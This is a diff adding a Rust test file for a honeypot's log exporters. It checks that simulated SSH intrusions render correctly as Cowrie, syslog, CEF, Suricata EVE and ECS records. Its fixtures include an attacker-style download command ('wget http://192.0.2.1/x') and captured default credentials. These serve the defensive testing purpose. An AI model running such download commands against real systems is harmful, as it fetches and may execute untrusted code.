@@ -1,0 +1,386 @@
+use std::net::IpAddr;
+
+use serde_json::{Value, json};
+
+use super::fields::community_id;
+use super::*;
+use crate::event::{EventId, SessionId};
+use crate::record::base64;
+use crate::record::schema::{Answer, End, Proto};
+
+#[path = "hostile_tests.rs"]
+mod hostile;
+
+fn origin() -> Origin {
+    Origin { honeynet: "office".into(), host: "sensor".into(), facility: 16 }
+}
+
+fn record(event: EventId) -> Record {
+    let end = |ip: [u8; 4], port| End { ip: Some(IpAddr::from(ip)), mac: None, port: Some(port) };
+    let mut record = Record::bare(7, Utc::from_micros(1_769_860_800_123_456), event);
+    record.session = Some(SessionId(0x8f3a_00c1_d2e4_b596));
+    record.node = Some("lan".into());
+    record.src = Some(end([192, 0, 2, 9], 40_000));
+    record.dst = Some(end([10, 0, 0, 1], 22));
+    record.proto = Some(Proto::Tcp);
+    record
+}
+
+fn with(event: EventId, details: Value) -> Record {
+    let data = details.to_string().into_bytes();
+    Record { data: Some(base64::encode(&data)), text: None, ..record(event) }
+}
+
+fn line(record: &Record) -> String {
+    serde_json::to_string(record).unwrap()
+}
+
+fn rendered(format: Format, record: &Record) -> Vec<String> {
+    let messages = messages(format, record, &line(record), &origin());
+    messages.into_iter().map(|message| String::from_utf8(message).unwrap()).collect()
+}
+
+fn objects(format: Format, record: &Record) -> Vec<Value> {
+    rendered(format, record).iter().map(|text| serde_json::from_str(text).unwrap()).collect()
+}
+
+fn login(accepted: bool) -> Record {
+    with(
+        EventId::SshLogin,
+        json!({"user": "root", "method": "password", "password": "a=b|\"]\\\\", "accepted": accepted}),
+    )
+}
+
+/// One of each event that has details, with some.
+fn detailed() -> Vec<Record> {
+    let file = |direction: &str| json!({"path": "/tmp/x\\x0a", "direction": direction, "size": 3, "sha256": "ba78", "content": "sha256-ba78"});
+    vec![
+        with(EventId::SshHello, json!({"banner": "SSH-2.0-Go", "hassh": "ec7378c1"})),
+        login(false),
+        login(true),
+        with(
+            EventId::SshLogin,
+            json!({"user": "git", "method": "publickey", "algorithm": "ssh-rsa", "fingerprint": "SHA256:x", "signed": true, "accepted": true}),
+        ),
+        with(EventId::SshShell, json!({"kind": "shell", "term": "xterm", "size": "132x43"})),
+        with(EventId::SshCommand, json!({"command": "uname -a"})),
+        with(EventId::ShellCommand, json!({"command": "wget http://192.0.2.1/x"})),
+        with(EventId::SshFile, file("upload")),
+        with(EventId::SshFile, file("download")),
+        with(
+            EventId::SshForward,
+            json!({"kind": "direct-tcpip", "host": "smtp.example", "port": 25, "accepted": true}),
+        ),
+        with(EventId::SshClose, json!({"reason": "disconnected", "attempts": 1})),
+        with(EventId::TlsHello, json!({"sni": "a.example", "alpn": ["h2"], "ja3": "abc", "ja4": "t13"})),
+        with(EventId::ServiceLogin, json!({"method": "telnet", "user": "admin", "password": "1234"})),
+    ]
+}
+
+fn everything() -> Vec<Record> {
+    EventId::ALL.iter().map(|id| record(*id)).chain(detailed()).collect()
+}
+
+#[test]
+fn an_intrusion_reads_as_cowrie_has_it() {
+    let mut told = vec![record(EventId::TcpOpen)];
+    told.extend(detailed());
+    told.push(Record { duration_us: Some(12_345_678), ..record(EventId::TcpClose) });
+    let lines: Vec<Value> = told.iter().flat_map(|record| objects(Format::Cowrie, record)).collect();
+    let ids: Vec<&str> = lines.iter().map(|line| line["eventid"].as_str().unwrap()).collect();
+    assert_eq!(
+        ids,
+        [
+            "cowrie.session.connect",
+            "cowrie.client.version",
+            "cowrie.client.kex",
+            "cowrie.login.failed",
+            "cowrie.login.success",
+            "cowrie.client.fingerprint",
+            "cowrie.login.success",
+            "cowrie.client.size",
+            "cowrie.command.input",
+            "cowrie.command.input",
+            "cowrie.session.file_upload",
+            "cowrie.direct-tcpip.request",
+            "cowrie.login.failed",
+            "cowrie.session.closed",
+        ]
+    );
+    let session = lines[0]["session"].as_str().unwrap();
+    assert!(session.len() == 12 && session.bytes().all(|b| b.is_ascii_hexdigit()), "{session}");
+    for line in &lines {
+        assert_eq!(line["session"], session);
+        assert_eq!((&line["src_ip"], &line["sensor"]), (&json!("192.0.2.9"), &json!("office")));
+        assert_eq!(line["timestamp"], "2026-01-31T12:00:00.123456Z");
+        assert!(line["message"].is_string());
+    }
+    assert_eq!((&lines[3]["username"], &lines[3]["password"]), (&json!("root"), &json!("a=b|\"]\\\\")));
+    assert_eq!(lines[4]["message"], "login attempt [root/a=b|\"]\\\\] succeeded");
+    assert_eq!((&lines[7]["width"], &lines[7]["height"]), (&json!(132), &json!(43)));
+    assert_eq!(lines[9]["input"], "wget http://192.0.2.1/x");
+    assert_eq!((&lines[10]["shasum"], &lines[10]["filename"]), (&json!("ba78"), &json!("/tmp/x\\x0a")));
+    assert_eq!((&lines[11]["dst_ip"], &lines[11]["dst_port"]), (&json!("smtp.example"), &json!(25)));
+    assert_eq!(lines[13]["duration"], 12.345_678);
+}
+
+#[test]
+fn a_connection_begins_and_ends_once_wherever_ssh_listens() {
+    let at = |port: u16, mut record: Record| {
+        record.dst.as_mut().unwrap().port = Some(port);
+        record
+    };
+    let of = |port: u16| {
+        let told =
+            [record(EventId::TcpOpen), detailed().remove(0), record(EventId::SshClose), record(EventId::TcpClose)];
+        let told = told.into_iter().flat_map(|record| objects(Format::Cowrie, &at(port, record)));
+        told.map(|line| line["eventid"].as_str().unwrap().trim_start_matches("cowrie.").to_owned()).collect::<Vec<_>>()
+    };
+    let expected = ["session.connect", "client.version", "client.kex", "session.closed"];
+    assert_eq!(of(22), expected);
+    assert_eq!(of(8022), expected);
+    // Telnet has no hello.
+    let told = [record(EventId::TcpOpen), Record { text: Some("id".into()), ..record(EventId::ServiceRequest) }];
+    let told: Vec<Value> = told.into_iter().flat_map(|record| objects(Format::Cowrie, &at(23, record))).collect();
+    assert_eq!((&told[0]["protocol"], &told[1]["input"]), (&json!("telnet"), &json!("id")));
+    let web = at(80, Record { text: Some("GET /".into()), ..record(EventId::ServiceRequest) });
+    assert!(rendered(Format::Cowrie, &web).is_empty());
+}
+
+#[test]
+fn syslog_is_as_the_rfc_has_it() {
+    let text = rendered(Format::Syslog, &login(true)).remove(0);
+    assert_eq!(
+        text,
+        "<133>1 2026-01-31T12:00:00.123456Z sensor honeyweave - ssh.login [honeyweave@32473 seq=\"7\" \
+         honeynet=\"office\" session=\"8f3a00c1d2e4b596\" node=\"lan\" src=\"192.0.2.9\" spt=\"40000\" dst=\"10.0.0.1\" \
+         dpt=\"22\" proto=\"tcp\"][details@32473 user=\"root\" method=\"password\" password=\"a=b|\\\"\\]\\\\\\\\\" \
+         accepted=\"true\"] ssh.login 192.0.2.9:40000 -> 10.0.0.1:22 \
+         {\"user\":\"root\",\"method\":\"password\",\"password\":\"a=b|\\\"]\\\\\\\\\",\"accepted\":true}"
+    );
+    let udp = Target::Udp(Peer { host: "a".into(), port: 514 });
+    let tcp = Target::Tcp(Peer { host: "a".into(), port: 514 });
+    let record = login(true);
+    let sent = |to| framed(Format::Syslog, to, text.clone().into_bytes(), &record, &origin());
+    assert_eq!(sent(&udp), text.as_bytes());
+    assert_eq!(sent(&tcp), format!("{} {text}", text.len()).as_bytes());
+    let cef = messages(Format::Cef, &record, "", &origin()).remove(0);
+    let sent = String::from_utf8(framed(Format::Cef, &udp, cef, &record, &origin())).unwrap();
+    assert!(sent.starts_with("<133>1 2026-01-31T12:00:00.123456Z sensor honeyweave - ssh.login - CEF:0|"), "{sent}");
+}
+
+#[test]
+fn cef_is_as_its_guide_has_it() {
+    let text = rendered(Format::Cef, &login(false)).remove(0);
+    let version = env!("CARGO_PKG_VERSION");
+    assert_eq!(
+        text,
+        format!(
+            "CEF:0|honeyweave|honeyweave|{version}|ssh.login|SSH log-in|5|rt=1769860800123 externalId=7 src=192.0.2.9 \
+             spt=40000 dst=10.0.0.1 dpt=22 proto=TCP outcome=failure duser=root cs1=8f3a00c1d2e4b596 cs1Label=session \
+             cs2=lan cs2Label=node cs4=a\\=b|\"]\\\\\\\\ cs4Label=password"
+        )
+    );
+    let mut six = record(EventId::TcpOpen);
+    six.src.as_mut().unwrap().ip = Some("2001:db8::9".parse().unwrap());
+    let text = rendered(Format::Cef, &six).remove(0);
+    assert!(text.contains(" c6a2=2001:db8::9 c6a2Label=Source IPv6 Address spt=40000 "), "{text}");
+}
+
+#[test]
+fn flows_are_as_suricata_has_them() {
+    let close = Record {
+        duration_us: Some(61_000_000),
+        bytes_in: Some(10),
+        bytes_out: Some(20),
+        reason: Some("closed".into()),
+        ..record(EventId::TcpClose)
+    };
+    let flow = objects(Format::Eve, &close).remove(0);
+    assert_eq!((&flow["event_type"], &flow["proto"]), (&json!("flow"), &json!("TCP")));
+    assert_eq!((&flow["dest_ip"], &flow["dest_port"]), (&json!("10.0.0.1"), &json!(22)));
+    assert_eq!(flow["timestamp"], "2026-01-31T12:00:00.123456+0000");
+    assert_eq!(flow["flow"]["start"], "2026-01-31T11:58:59.123456+0000");
+    assert_eq!((&flow["flow"]["age"], &flow["flow"]["bytes_toclient"]), (&json!(61), &json!(20)));
+    let ssh = objects(Format::Eve, &detailed()[0]).remove(0);
+    assert_eq!(ssh["flow_id"], flow["flow_id"]);
+    assert_eq!(
+        ssh["ssh"]["client"],
+        json!({"proto_version": "2.0", "software_version": "Go", "hassh": {"hash": "ec7378c1"}})
+    );
+    // A probe that is answered becomes a connection, whose end tells of it.
+    let probe = |answer| Record { answer: Some(answer), ..record(EventId::TcpProbe) };
+    assert_eq!(objects(Format::Eve, &probe(Answer::Closed)).remove(0)["flow"]["state"], "new");
+    assert!(objects(Format::Eve, &probe(Answer::Open)).is_empty());
+    assert!(flow["flow_id"].as_u64().unwrap() < 1 << 53);
+}
+
+#[test]
+fn a_community_id_is_the_one_that_others_calculate() {
+    // From the baseline of the specification.
+    let mut of = record(EventId::TcpOpen);
+    of.src = Some(End { ip: Some("128.232.110.120".parse().unwrap()), mac: None, port: Some(34855) });
+    of.dst = Some(End { ip: Some("66.35.250.204".parse().unwrap()), mac: None, port: Some(80) });
+    assert_eq!(community_id(&of).as_deref(), Some("1:LQU9qZlK+B5F3KDmev6m5PMibrg="));
+    std::mem::swap(&mut of.src, &mut of.dst);
+    assert_eq!(community_id(&of).as_deref(), Some("1:LQU9qZlK+B5F3KDmev6m5PMibrg="));
+}
+
+/// What ECS 8.11 allows beside each category.
+fn allowed(category: &str) -> &'static [&'static str] {
+    match category {
+        "authentication" | "session" => &["start", "end", "info"],
+        "network" => &["access", "allowed", "connection", "denied", "end", "info", "protocol", "start"],
+        "host" => &["access", "change", "end", "info", "start"],
+        "process" => &["access", "change", "end", "info", "start"],
+        "file" => &["access", "change", "creation", "deletion", "info"],
+        "intrusion_detection" => &["allowed", "denied", "info"],
+        other => panic!("{other} is no category"),
+    }
+}
+
+/// The type of each field of ECS that is used: `k` keyword, `l` long, `d` date, `i` ip.
+const FIELDS: &[(&str, char)] = &[
+    ("@timestamp", 'd'),
+    ("ecs.version", 'k'),
+    ("message", 'k'),
+    ("event.kind", 'k'),
+    ("event.category", 'k'),
+    ("event.type", 'k'),
+    ("event.action", 'k'),
+    ("event.module", 'k'),
+    ("event.dataset", 'k'),
+    ("event.provider", 'k'),
+    ("event.sequence", 'l'),
+    ("event.severity", 'l'),
+    ("event.outcome", 'k'),
+    ("event.reason", 'k'),
+    ("event.duration", 'l'),
+    ("event.start", 'd'),
+    ("event.end", 'd'),
+    ("observer.vendor", 'k'),
+    ("observer.product", 'k'),
+    ("observer.type", 'k'),
+    ("observer.name", 'k'),
+    ("observer.hostname", 'k'),
+    ("observer.version", 'k'),
+    ("source.address", 'k'),
+    ("source.ip", 'i'),
+    ("source.port", 'l'),
+    ("source.mac", 'k'),
+    ("source.bytes", 'l'),
+    ("destination.address", 'k'),
+    ("destination.ip", 'i'),
+    ("destination.port", 'l'),
+    ("destination.mac", 'k'),
+    ("destination.bytes", 'l'),
+    ("network.transport", 'k'),
+    ("network.type", 'k'),
+    ("network.direction", 'k'),
+    ("network.protocol", 'k'),
+    ("network.bytes", 'l'),
+    ("network.community_id", 'k'),
+    ("user.name", 'k'),
+    ("related.ip", 'i'),
+    ("related.user", 'k'),
+    ("related.hash", 'k'),
+    ("process.command_line", 'k'),
+    ("process.name", 'k'),
+    ("file.path", 'k'),
+    ("file.name", 'k'),
+    ("file.size", 'l'),
+    ("file.hash.sha256", 'k'),
+    ("user_agent.original", 'k'),
+    ("tls.client.server_name", 'k'),
+    ("tls.client.ja3", 'k'),
+];
+
+fn leaves(prefix: &str, value: &Value, each: &mut dyn FnMut(&str, &Value)) {
+    match value {
+        Value::Object(members) => members.iter().for_each(|(name, member)| {
+            let name = if prefix.is_empty() { name.clone() } else { format!("{prefix}.{name}") };
+            leaves(&name, member, each);
+        }),
+        Value::Array(items) => items.iter().for_each(|item| leaves(prefix, item, each)),
+        leaf => each(prefix, leaf),
+    }
+}
+
+fn check_ecs(document: &Value) {
+    for category in document["event"]["category"].as_array().unwrap() {
+        let types = document["event"]["type"].as_array().unwrap();
+        for kind in types {
+            // A type has to be allowed beside one of the categories.
+            let categories = document["event"]["category"].as_array().unwrap();
+            let fits = |category: &Value| allowed(category.as_str().unwrap()).contains(&kind.as_str().unwrap());
+            assert!(categories.iter().any(fits), "{category} {kind}");
+        }
+    }
+    leaves("", document, &mut |name, value| {
+        if name.starts_with("honeyweave.") {
+            return;
+        }
+        let kind = FIELDS.iter().find(|(known, _)| *known == name).unwrap_or_else(|| panic!("{name} is no field")).1;
+        let fits = match kind {
+            'l' => value.is_u64(),
+            'i' => value.as_str().is_some_and(|text| text.parse::<IpAddr>().is_ok()),
+            'd' => value.as_str().is_some_and(|text| text.parse::<Utc>().is_ok()),
+            _ => value.is_string(),
+        };
+        assert!(fits, "{name} is {value}");
+    });
+}
+
+#[test]
+fn documents_have_the_fields_of_ecs() {
+    for record in everything() {
+        let document = objects(Format::Ecs, &record).remove(0);
+        check_ecs(&document);
+        assert_eq!(document["event"]["action"], record.event.as_str());
+    }
+    let document = objects(Format::Ecs, &login(true)).remove(0);
+    assert_eq!((&document["event"]["outcome"], &document["user"]["name"]), (&json!("success"), &json!("root")));
+    assert_eq!(document["honeyweave"]["ssh_login"]["method"], "password");
+    let page = include_str!("../../../docs/sinks.md");
+    for (name, _) in FIELDS {
+        assert!(page.contains(&format!("`{name}`")), "docs/sinks.md does not list {name}");
+    }
+}
+
+#[test]
+fn the_table_in_the_documentation_is_what_is_sent() {
+    let page = include_str!("../../../docs/sinks.md");
+    for id in EventId::ALL {
+        let row = table::of(*id);
+        let list = |names: &[&str]| match names {
+            [] => "–".to_owned(),
+            names => names.iter().map(|name| format!("`{name}`")).collect::<Vec<_>>().join(", "),
+        };
+        let syslog = ["", "", "", "error", "warning", "notice", "informational"][usize::from(row.syslog())];
+        let expected = format!(
+            "| `{}` | {} | {}: {} | {} | {} ({syslog}): {} |",
+            id.as_str(),
+            list(cowrie::ids(*id)),
+            list(row.category),
+            list(row.types),
+            list(eve::kind(*id).as_slice()),
+            row.severity,
+            row.title,
+        );
+        assert!(page.lines().any(|line| line == expected), "docs/sinks.md lacks the row\n{expected}");
+        // And nothing else is.
+        assert!(row.severity <= 10 && !row.title.is_empty());
+    }
+    for record in everything() {
+        for line in objects(Format::Cowrie, &record) {
+            assert!(cowrie::ids(record.event).contains(&line["eventid"].as_str().unwrap()), "{line}");
+        }
+        for line in objects(Format::Eve, &record) {
+            assert_eq!(line["event_type"].as_str(), eve::kind(record.event));
+        }
+    }
+    for id in EventId::ALL.iter().flat_map(|id| cowrie::ids(*id)) {
+        let is_sent = |record: Record| objects(Format::Cowrie, &record).iter().any(|line| line["eventid"] == **id);
+        assert!(everything().into_iter().any(is_sent), "{id} is never sent");
+    }
+}
